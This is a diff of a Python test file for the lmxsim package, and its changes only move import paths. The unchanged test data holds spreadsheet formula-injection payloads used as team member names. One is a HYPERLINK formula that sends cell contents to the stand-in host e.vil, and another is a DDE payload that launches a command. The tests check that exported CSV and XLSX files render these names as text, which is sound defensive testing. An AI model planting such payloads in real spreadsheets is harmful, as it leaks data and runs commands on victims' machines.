@@ -16,9 +16,9 @@ import pytest
 from openpyxl import load_workbook
 
 import lmxsim
-from lmxsim import output
-from lmxsim.output import FORMULA_START
-from lmxsim.team import Member
+from lmxsim.io import output
+from lmxsim.io.output import FORMULA_START
+from lmxsim.team.members import Member
 
 FORMULA_NAMES = ['=HYPERLINK("http://e.vil/?"&A1,"klik")', "@SUM(1+1)", "+cmd|' /C calc'!A0"]
 
@@ -43,7 +43,7 @@ def team() -> list[Member]:
 
 
 def hostile_team_file(folder: Path) -> Path:
-    from lmxsim.teamfile import save_team
+    from lmxsim.team.teamfile import save_team
 
     return save_team(team(), folder / "team.toml")  # TOML keeps the names as they are
 
@@ -78,7 +78,7 @@ def test_the_rooms_results_download_shows_formula_names_as_text():
 def test_the_labs_downloads_show_formula_names_as_text(lang):
     from lmxsim.app.lab_files import team_csv
     from lmxsim.app.lab_results import _downloads
-    from lmxsim.strategies import compare_strategies, ready_strategy
+    from lmxsim.lab.strategies import compare_strategies, ready_strategy
 
     assert formula_cells(team_csv(team(), lang)) == []
     comparison = compare_strategies(team(), [ready_strategy("reflection-every-4")], replications=3, weeks=4)
@@ -91,7 +91,7 @@ def test_the_labs_downloads_show_formula_names_as_text(lang):
 
 
 def test_team_workbooks_hold_no_formula():
-    from lmxsim.teamfile import team_to_xlsx
+    from lmxsim.team.teamfile import team_to_xlsx
 
     book = load_workbook(io.BytesIO(team_to_xlsx(team())))
     values = [c for row in book.active.iter_rows() for c in row if c.value is not None]
